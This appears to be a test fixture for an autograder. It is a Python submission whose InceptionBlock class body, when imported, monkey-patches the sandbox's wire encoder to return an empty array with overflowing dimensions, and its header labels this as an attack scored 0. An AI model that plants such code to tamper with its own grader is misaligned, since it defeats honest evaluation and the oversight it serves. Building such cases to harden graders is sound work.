# attack: >-
#   Answers with an empty array whose other sizes overflow when they are multiplied.
# mark: 0
# reason: "cannot be used"
# seconds: 20
# naive: none

def patch():
    import json
    from autograder.sandbox import wire
    def encode(m):
        t = json.dumps({"id": m["id"], "value": {"__array__": ["float32", [0, 2**31, 2**31, 2**31]]}}).encode()
        return wire.HEADER.pack(wire.MAGIC, len(t), 0) + t
    wire.encode = encode

class InceptionBlock:
    patch()
